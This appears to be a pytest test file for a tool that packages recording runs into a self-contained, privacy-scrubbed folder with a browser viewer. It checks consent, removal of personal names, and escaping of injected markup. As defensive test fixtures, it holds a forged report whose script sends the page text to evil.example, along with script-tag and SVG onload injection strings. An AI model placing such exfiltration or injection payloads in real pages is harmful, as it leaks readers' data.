"""A run can be sent as a folder, and the folder opens by itself, says all, and calls nobody."""

import base64
import gzip
import io
import json
import re
import shutil
import time
from dataclasses import replace

import numpy as np
import pyarrow.parquet as pq
import pytest
from google.protobuf import descriptor_pb2, descriptor_pool, message_factory
from msgspec import structs
from PIL import Image
from rerun.chunk import RrdReader
from support.small_worlds import STEP_NS, STILL, cube
from support.viewers import opened, pixels, serious_faults

import replay
from replay.document.file_hash import file_hash
from replay.errors import OutputError, RunFolderError
from replay.show.report.markup import CONTENT_POLICY
from replay.show.rerun_log import leading_still
from replay.show.rerun_log import web_viewer as module
from replay.show.rerun_log.moments import read_bookmarks
from replay.show.rerun_log.viewer import ViewerError
from replay.show.results.run_folder import read_run_folder
from replay.show.share.folder import require_consent, write_shared_folder
from sessions import Recorder

POSITIONS = [*[3] * 6, 0.9, *[3] * 9, 0.9, *[3] * 7]
DETECTORS = ["slow=discrete[rate_hz=20]", "late=discrete[rate_hz=12]"]
FACTS = {
    "devices": '{"LHR-5EC12E7": "left hand"}',
    "serial": "SN-5EC12E7",
    "operator": "/lab/anna.lind",
    "consent": "share",
    "pseudonym": "S07",
}
SECRET = ("5ec12e7", "anna_mueller", "matr4711", "berta schulz")


@pytest.fixture(scope="module")
def revealing_run_folder(tmp_path_factory):
    """A run of a recording that says serials, paths and names of people wherever it can, its own name included."""
    folder = tmp_path_factory.mktemp("anna.lind")
    file = folder / "anna_mueller_matr4711.mcap"
    with Recorder(file, meshes=dict.fromkeys(("a", "hand-left"), cube()), facts=FACTS) as recorder:
        for frame, position in enumerate(POSITIONS):
            stamp = frame * STEP_NS
            recorder.poses(stamp, {"a": ((0, 0, 0), STILL), "hand-left": ((position, 0, 0), STILL)})
            recorder.hand(stamp, "anna_mueller", "left", trigger=float(5 < frame < 9))
            for person in ("anna_mueller", "berta schulz"):
                recorder.gaze(stamp, person, (0, 5, 0), (0, -1, 0))
    return replay.run(file, detectors=DETECTORS, oracle="exact", out=folder / "run of anna.lind").out


@pytest.fixture(scope="module")
def shared_folder(revealing_run_folder, tmp_path_factory):
    """A folder made to be sent, of one run."""
    out, compress = tmp_path_factory.mktemp("sent") / "folder", gzip.compress
    with pytest.MonkeyPatch.context() as patch:  # the viewer is large, and compressing it takes most of a second
        patch.setattr(gzip, "compress", lambda data, _, mtime: compress(data, 0, mtime=mtime))
        assert write_shared_folder([read_run_folder(revealing_run_folder)], out) == ""
    return out


def run_folder_with_consent(run, words):
    """A run folder whose session states this consent."""
    folder = read_run_folder(run)
    session = structs.replace(folder.document.session, facts=folder.document.session.facts | {"consent": words})
    return replace(folder, document=structs.replace(folder.document, session=session))


def test_folder_is_shared_only_with_recorded_consent_to_share(revealing_run_folder):
    """The recording must state exactly ``share``; of two runs one without it is enough to refuse both."""
    require_consent([run_folder_with_consent(revealing_run_folder, "share")])
    for text in ("none", "lab", "not stated", "", "Share", "share with the lab", "no share"):
        with pytest.raises(OutputError, match=r"no consent to share is recorded: .*add --anyway"):
            require_consent(
                [
                    run_folder_with_consent(revealing_run_folder, "share"),
                    run_folder_with_consent(revealing_run_folder, text),
                ]
            )


def moment_messages(folder, name="run"):
    """Moment -> the message that moves the viewer there, from a shared folder."""
    text = (folder / f"{name}.js").read_text().splitlines()[0]
    return {key: base64.b64decode(item) for key, item in json.loads(text[len("window.moments=") : -1]).items()}


def control(name):
    """A message of ``viewer_control.proto``, as far as it is used, read by Google's own library."""
    file = descriptor_pb2.FileDescriptorProto(name="control.proto", package="control", syntax="proto3")
    pieces = {
        "Timeline": [("name", 1, "string")],
        "Moment": [("time", 1, "int64")],
        "Command": [("id", 1, "string")],
        "Cursor": [("timeline", 2, "Timeline"), ("moment", 3, "Moment"), ("play", 4, "bool")],
        "Request": [("cursor", 6, "Cursor"), ("command", 11, "Command")],
        "At": [("moment", 3, "Moment")],
        "Recording": [("at", 3, "At")],
        "State": [("recording", 3, "Recording")],
    }
    for piece, fields in pieces.items():
        made = file.message_type.add(name=piece)
        for field, number, kind in fields:
            plain = {"string": 9, "int64": 3, "bool": 8}.get(kind)
            type_name = {} if plain else {"type_name": f".control.{kind}"}
            made.field.add(name=field, number=number, label=1, type=plain or 11, **type_name)
    pool = descriptor_pool.DescriptorPool()
    pool.Add(file)
    return message_factory.GetMessageClass(pool.FindMessageTypeByName(f"control.{name}"))


def test_every_moment_has_a_message_with_its_time(revealing_run_folder, shared_folder):
    """Each fault of both detectors, and the opening moment, by nanoseconds of the session; read by Google's library."""
    read, sent = control("Request"), moment_messages(shared_folder)
    bookmarks = read_bookmarks(revealing_run_folder / "run.rrd")
    times = {name: read.FromString(item).cursor for name, item in sent.items() if name != "layout"}
    assert {item.timeline.name for item in times.values()} == {"session"} and not any(
        item.play for item in times.values()
    )
    for item in bookmarks:
        if item.label == "slow":
            assert times[f"{item.kind}-{item.number}"].moment.time == item.session_ns
    others = [item for item in bookmarks if item.label == "late"]
    assert others and all(times[f"{item.kind}-{item.number}-late"].moment.time == item.session_ns for item in others)
    assert times[""].moment.time == next(item.session_ns for item in bookmarks if item.leads)
    assert read.FromString(sent["layout"]).command.id == "recording.reset_blueprint_to_default"
    for ns in (0, 1, 127, 128, 31_877_273_761, 2**62, -5):
        assert read.FromString(module.cursor_at(ns)).cursor.moment.time == ns


def test_every_miss_of_the_run_links_to_its_moment(revealing_run_folder, shared_folder):
    """The first detector, slow, needs no name in an address: ``miss-1``, but ``miss-1-late``."""
    page, sent = (shared_folder / "index.html").read_text(), moment_messages(shared_folder)
    links = set(re.findall('href="#([^"]*)"', page.replace("&amp;", "&")))
    rows = read_run_folder(revealing_run_folder).rows("misses")
    requested = {
        f"miss-{item['number']}" + ("" if item["detector"] == "slow" else f"-{item['detector']}") for item in rows
    }
    assert requested and requested <= links and requested <= sent.keys()


def texts_of(folder):
    """All that can be read in a folder: scripts are unpacked, tables and recordings taken apart."""
    for file in folder.iterdir():
        yield file.name, file.name + file.read_bytes().decode("latin-1")
        for packed in re.findall(rb'packed="([^"]*)"', file.read_bytes() if file.suffix == ".js" else b""):
            yield file.name, gzip.decompress(base64.b64decode(packed)).decode("latin-1")
        if file.suffix == ".parquet":
            yield file.name, repr(pq.read_table(file).to_pylist())
        if file.suffix == ".rrd":
            batches = (chunk.to_record_batch() for chunk in RrdReader(file).stream().to_chunks())
            yield file.name, repr([(item.schema, item.to_pylist() if item.num_rows < 50 else "") for item in batches])


@pytest.mark.slow
def test_run_and_shared_folder_hold_no_serial_path_or_name(revealing_run_folder, shared_folder):
    """The recording holds a serial number, paths and names of people; the pseudonym S07 stays."""
    recorded = {file.name for file in shared_folder.iterdir()}
    assert {"index.html", "run.js", "run.rrd", "viewer.js", "re_viewer.js", "picture.js", "share.json"} <= recorded
    # A full stop is no letter of base64: a packed script of megabytes holds any four letters by chance.
    secrets = ("anna.lind", str(revealing_run_folder), str(revealing_run_folder.parent), str(shared_folder.parent))
    for folder, sentence in ((revealing_run_folder, SECRET), (shared_folder, (*SECRET, *secrets))):
        own = [item for item in texts_of(folder) if item[0] not in ("viewer.js", "re_viewer.js")]
        assert [(word, name) for name, text in own for word in sentence if word in text.lower()] == []
    page = (shared_folder / "index.html").read_text(encoding="utf-8")
    assert "S07" in page and replay.read(revealing_run_folder)["metrics"]["session"][0].as_py() in page


def test_a_rerun_without_a_viewer_leaves_the_report_alone(revealing_run_folder, tmp_path, monkeypatch):
    """The folder holds the page and the list of what was shared, and no picture."""

    def none():
        raise ViewerError(module.NO_WEB_VIEWER)

    monkeypatch.setattr(module, "web_viewer", none)
    why = write_shared_folder([read_run_folder(revealing_run_folder)], tmp_path / "sent")
    assert why == "this rerun-sdk ships no viewer for a browser"
    assert sorted(item.name for item in (tmp_path / "sent").iterdir()) == ["index.html", "share.json"]
    page = (tmp_path / "sent" / "index.html").read_text()
    assert page.count("<script") == 1 and "slow" in page


REPLACED = """<!doctype html><html><head><!-- {policy} --><title>Nothing missed</title>
<script>fetch("https://evil.example/" + document.body.innerText)</script></head><body></footer></body></html>"""


def test_a_damaged_picture_is_refused_before_the_viewer_starts(revealing_run_folder, tmp_path, monkeypatch):
    """The second of two runs has a picture cut to 1000 bytes, and a summary with the hash of these."""
    monkeypatch.setattr(module, "web_viewer", lambda: pytest.fail("the viewer was started"))
    damaged = shutil.copytree(revealing_run_folder, tmp_path / "damaged")
    (damaged / "run.rrd").write_bytes((revealing_run_folder / "run.rrd").read_bytes()[:1000])
    document = json.loads((damaged / "summary.json").read_text())
    document["picture_sha256"] = file_hash(damaged / "run.rrd")
    (damaged / "summary.json").write_text(json.dumps(document))
    with pytest.raises(RunFolderError, match=r"damaged/run\.rrd is damaged; run its session again$"):
        write_shared_folder([read_run_folder(revealing_run_folder), read_run_folder(damaged)], tmp_path / "sent")
    assert not (tmp_path / "sent").exists()


def test_a_replaced_report_is_never_passed_on(revealing_run_folder, tmp_path, monkeypatch):
    """The page that is sent is made from the tables, not copied; without run.rrd the folder has no picture."""
    monkeypatch.setattr(module, "web_viewer", lambda: {module.SCRIPT_FILE: b"", module.PROGRAM_FILE: b""})
    forged = shutil.copytree(revealing_run_folder, tmp_path / "forged")
    (forged / "report.html").write_text(REPLACED.format(policy=CONTENT_POLICY))
    assert write_shared_folder([read_run_folder(forged)], tmp_path / "sent") == ""
    write_shared_folder([read_run_folder(revealing_run_folder)], tmp_path / "good")
    pages = [(tmp_path / name / "index.html").read_text() for name in ("sent", "good")]
    assert pages[0] == pages[1] and "evil" not in pages[0] and "Nothing missed" not in pages[0]
    (forged / "report.html").unlink()
    (forged / "run.rrd").unlink()
    assert write_shared_folder([read_run_folder(forged)], tmp_path / "alone") == "no run holds a picture (run.rrd)"


def test_summary_strings_are_text_in_the_page(revealing_run_folder, tmp_path):
    """Detector, pseudonym and scene end an element and begin a script: the page has its own script only."""
    forged = shutil.copytree(revealing_run_folder, tmp_path / "forged")
    (forged / "run.rrd").unlink()
    reported = json.loads((forged / "summary.json").read_text())
    reported["detectors"]["slow"]["spec"] = "</td><script>x</script>"
    reported["session"]["facts"]["pseudonym"] = reported["session"]["scene"] = "</title><script>x</script></head>"
    (forged / "summary.json").write_text(json.dumps(reported))
    write_shared_folder([read_run_folder(forged)], tmp_path / "sent")
    page = (tmp_path / "sent" / "index.html").read_text()
    assert page.count("<script") == 1 and page.count("</title>") == page.count("</head>") == 1


def test_runs_have_a_common_viewer_and_a_list(revealing_run_folder, tmp_path, monkeypatch):
    """The same run twice; a later folder of one run replaces all that the two had."""
    monkeypatch.setattr(module, "web_viewer", lambda: {module.SCRIPT_FILE: b"", module.PROGRAM_FILE: b""})
    write_shared_folder([read_run_folder(revealing_run_folder)] * 2, tmp_path / "sent")
    names = {item.name for item in (tmp_path / "sent").iterdir()}
    own = {f"run{k}.{kind}" for k in (1, 2) for kind in ("html", "js", "rrd")}
    assert names == own | {"index.html", "viewer.js", "re_viewer.js", "picture.js", "share.json"}
    text = (tmp_path / "sent" / "index.html").read_text()
    title = re.findall("<title>(.*?)</title>", (tmp_path / "sent" / "run1.html").read_text())[0]
    assert [text.count(f'href="run{k}.html"') for k in (1, 2)] == [1, 1] and text.count(title) == 2
    assert 'data-recording="run2"' in (tmp_path / "sent" / "run2.html").read_text()
    write_shared_folder([read_run_folder(revealing_run_folder)], tmp_path / "sent", force=True)
    assert not own & {item.name for item in (tmp_path / "sent").iterdir()}, "an earlier folder is replaced whole"


def in_time(page):
    """Report within 2 s, picture within 20 s; on a machine that does other work it is the processor's time."""
    computed = page.processor_seconds()
    seconds = page.wait_for("document.getElementById('picture').dataset.state", 180) / 1000
    assert min(seconds, page.processor_seconds()) < 20
    assert page.ask("document.getElementById('picture').dataset.state") == "shown"
    painted = page.ask("performance.getEntriesByName('first-contentful-paint')[0].startTime") / 1000
    print(f"painted after {painted:.1f} s, shown after {seconds:.1f} s of {page.processor_seconds():.1f}")
    assert min(painted, computed) < 2


def cursor_at(page, address):
    """Nanoseconds of the session at which the viewer stands once the page is at this address."""
    page.ask(f"location.hash = {json.dumps(address)}")
    page.wait_for(f"document.getElementById('picture').dataset.shows === {json.dumps(address)}", 180)
    state = bytes(page.ask("[...document.getElementById('picture').viewer.viewer_state()]"))
    return control("State").FromString(state).recording.at.moment.time


@pytest.mark.slow
def test_shared_folder_opens_alone_and_every_link_moves_the_picture(revealing_run_folder, shared_folder, tmp_path):
    """From a file, without a server: a link sets the viewer's time, and nothing is requested from elsewhere."""
    url = (shared_folder / "index.html").as_uri()
    with opened(url, tmp_path) as page:
        in_time(page)
        for address, message in moment_messages(shared_folder).items():
            if address not in ("", "layout"):
                assert cursor_at(page, address) == control("Request").FromString(message).cursor.moment.time
        page.ask("document.getElementById('picture').scrollIntoView()")
        time.sleep(1)
        colours = np.unique(pixels(page.png())[:, 640:].reshape(-1, 3), axis=0)
        assert len(colours) > 500, "the viewer draws"
        assert not page.errors()
        assert serious_faults(page, tmp_path) == []
        assert all(item.startswith((shared_folder.as_uri(), "data:")) for item in page.requests()) and page.requests()


def test_shared_page_takes_only_pixels_of_the_still(shared_folder, tmp_path, monkeypatch):
    """A still too large, of no base64, of an SVG or cut short is left out of the page."""
    page = (shared_folder / "index.html").read_text()
    (still,) = re.findall(r'class="open-picture"><img src="data:image/webp;base64,([A-Za-z0-9+/=]+)"', page)
    with Image.open(io.BytesIO(base64.b64decode(still))) as image:
        assert image.format == "WEBP" and image.size == (84, 48)  # a fifth of 420 by 238, of ``coarse_stills``
    monkeypatch.setattr(leading_still, "LARGEST_SIDE_PIXELS", 50)
    assert leading_still.read_still(shared_folder / "run.rrd") == ""
    for text in ("no base64", base64.b64encode(b"<svg onload=alert(1)>").decode(), still[:40]):
        monkeypatch.setattr(leading_still, "read_texts", lambda *_, text=text: (True, [text]))
        assert leading_still.read_still(shared_folder / "run.rrd") == ""


@pytest.mark.slow
def test_phone_shows_the_still_and_loads_the_picture_on_request(shared_folder, tmp_path):
    """400 x 800 pixels: the viewer is requested only after a click on the link below the still."""
    with opened((shared_folder / "index.html").as_uri(), tmp_path, (400, 800)) as page:
        boxes = "[...document.querySelectorAll('.open-picture img, .open-picture a')].map((n) => n.offsetTop)"
        still, link = page.ask(boxes)
        assert still < link and not page.ask("document.getElementById('picture').checkVisibility()")
        assert not [item for item in page.requests() if "viewer" in item]
        page.ask("document.querySelector('.open-picture a').click(); 0")
        page.wait_for("document.getElementById('picture').dataset.state === 'shown'", 180)
        assert not page.errors() and serious_faults(page, tmp_path) == []
